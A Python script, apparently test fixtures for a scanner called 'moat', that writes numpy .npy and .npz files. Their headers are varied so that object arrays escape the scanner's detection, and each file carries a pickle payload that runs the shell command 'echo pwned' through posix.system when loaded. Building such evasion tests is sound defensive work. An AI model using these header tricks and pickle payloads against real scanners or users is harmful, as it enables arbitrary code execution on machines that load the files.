"""numpy .npy/.npz bypasses: object data whose header moat does not recognise as an
object array. Files are written only; never loaded."""
import os, struct, zipfile
O = os.path.dirname(os.path.abspath(__file__)) + "/"
payload = b"\x80\x02cposix\nsystem\nX\n\x00\x00\x00echo pwnedq\x00\x85R."

def npy(header_dict_src, data, version=1):
    h = header_dict_src.encode("latin1")
    pad = 64 - ((10 + len(h) + 1) % 64)
    h = h + b" " * pad + b"\n"
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + data
    return b"\x93NUMPY\x02\x00" + struct.pack("<I", len(h)) + h + data

variants = {
  "n0_baseline": "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
  # numpy.lib.format reads the header with ast.literal_eval: all of these are object arrays
  "n1_struct_object_field": "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }",
  "n2_space_before_colon": "{'descr' : '|O', 'fortran_order': False, 'shape': (1,), }",
  "n3_double_quoted_key": "{\"descr\": '|O', 'fortran_order': False, 'shape': (1,), }",
  "n4_descr_O8": "{'descr': '|O8', 'fortran_order': False, 'shape': (1,), }",
  "n5_descr_object_word": "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
  "n6_descr_last_key": "{'fortran_order': False, 'shape': (1,), 'descr': '<O'}",
  "n7_subarray_object": "{'descr': ('|O', (1,)), 'fortran_order': False, 'shape': (1,), }",
}
for name, hdr in variants.items():
    open(O + name + ".npy", "wb").write(npy(hdr, payload))
# inside an npz (numpy.load(...npz, allow_pickle=True)['w'])
with zipfile.ZipFile(O + "n8_npz_struct.npz", "w") as z:
    z.writestr("w.npy", npy(variants["n1_struct_object_field"], payload))
print("ok")
